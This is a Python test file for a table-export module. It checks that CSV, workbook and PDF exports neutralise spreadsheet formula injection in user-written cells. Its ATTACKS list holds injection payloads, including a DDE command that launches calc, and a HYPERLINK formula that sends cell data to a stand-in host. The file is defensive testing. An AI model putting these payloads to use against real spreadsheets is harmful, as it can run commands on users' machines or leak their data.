"""Tables to take away, read back as a spreadsheet would: what people wrote is never anything but words."""

import csv
import io
import re
import zipfile
from xml.etree import ElementTree

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfReader

from phonein.desk import tables
from phonein.desk.tables import Table

ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\u00a0=1+1", "\u200b=1+1",
    "\ufeff=1+1", "＝1+1", "＋1", "－1", "＠A1", "−1", '"=1+1', "'=1+1", '=HYPERLINK("http://x.test/?"&A1,"see")',
    "=cmd|' /C calc'!A0", 'x";=1+1', "x;=1+1", "x,=1+1", "x|=1+1", "well\n=1+1", "well\u2028=1+1", "well\x0b=1+1",
    "DDE ('cmd';'/C calc')", "x\x00=1",
]  # fmt: skip
COMPUTES = re.compile(r"""^[\s"'\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠−]""")
MARKED = re.compile(r"""^[\s"\u200b-\u200f\u2060\ufeff']*'[=+\-@＝＋－＠−]""")
WORKBOOK = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def a_table(*cells: str) -> Table:
    return Table.of("questions", cells[0], [cells[0], "Asked"], [(cell, 7) for cell in cells], about=cells[0])


def seen_in_workbook(content: bytes) -> list[list[str]]:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        strings = [
            "".join(part.text or "" for part in one.iter(f"{WORKBOOK}t"))
            for one in ElementTree.fromstring(book.read("xl/sharedStrings.xml"))
        ]
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
        assert [*sheet.iter(f"{WORKBOOK}f"), *sheet.iter(f"{WORKBOOK}hyperlink")] == []
        assert not any("externalLink" in name or "vba" in name for name in book.namelist())
    return [
        [strings[int(cell.find(f"{WORKBOOK}v").text)] if cell.get("t") == "s" else cell[0].text for cell in row]
        for row in sheet.iter(f"{WORKBOOK}row")
    ]


def is_safe(cell: str) -> bool:
    return not COMPUTES.match(cell) or bool(MARKED.match(cell))


def looked_at(content: bytes, delimiter: str) -> list[str]:
    """The cells, as a spreadsheet sees them that takes this for the separator."""
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_computes_whatever_separator_a_spreadsheet_goes_by(attack):
    content = tables.as_csv(a_table(attack, "fine"))
    assert content.startswith(b"\xef\xbb\xbf")
    for delimiter in ",;\t|":
        assert [cell for cell in looked_at(content, delimiter) if not is_safe(cell)] == []
    assert [len(row) for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))] == [2, 2, 2]
    cells = seen_in_workbook(tables.as_workbook(a_table(attack, "fine")))
    assert [cell for row in cells for cell in row if not all(map(is_safe, cell.splitlines()))] == []
    assert [row[1] for row in cells] == ["Asked", "7", "7"]


@given(st.lists(st.text(max_size=40), min_size=1, max_size=4))
def test_whatever_people_write_no_cell_computes(cells):
    content = tables.as_csv(a_table(*cells))
    assert [cell for delimiter in ",;" for cell in looked_at(content, delimiter) if not is_safe(cell)] == []


def test_ordinary_words_stay_as_they_are():
    words = [
        "How do I help – without asking?",
        "“Nid wyf yn cysgu”, ŵy a thŷ 👏🏽",
        "A-team; B-team, e-mail me",
        'He said "no"',
    ]
    assert [row[0] for row in csv.reader(io.StringIO(tables.as_csv(a_table(*words)).decode("utf-8-sig")))][1:] == words
    assert [row[0] for row in seen_in_workbook(tables.as_workbook(a_table(*words)))][1:] == words


def test_a_workbook_tells_neither_who_made_it_nor_when_to_the_minute():
    with zipfile.ZipFile(io.BytesIO(tables.as_workbook(a_table("x")))) as book:
        assert re.findall(r"<dc:creator>(.*?)<", book.read("docProps/core.xml").decode()) == [""]
        assert set(re.findall(r"T(\d\d:\d\d:\d\d)Z", book.read("docProps/core.xml").decode())) == {"00:00:00"}


def test_a_pdf_has_every_cell_and_is_tagged():
    table = a_table("=1+1 #let x = 1", "“Nid wyf yn cysgu” 👏 " + "very long " * 60, *ATTACKS)
    pdf = PdfReader(io.BytesIO(tables.as_pdf(table)))
    text = re.sub(r"\s+", " ", " ".join(page.extract_text() for page in pdf.pages))
    assert "=1+1 #let x = 1" in text
    assert "Nid wyf yn cysgu" in text
    assert pdf.trailer["/Root"]["/MarkInfo"]["/Marked"]
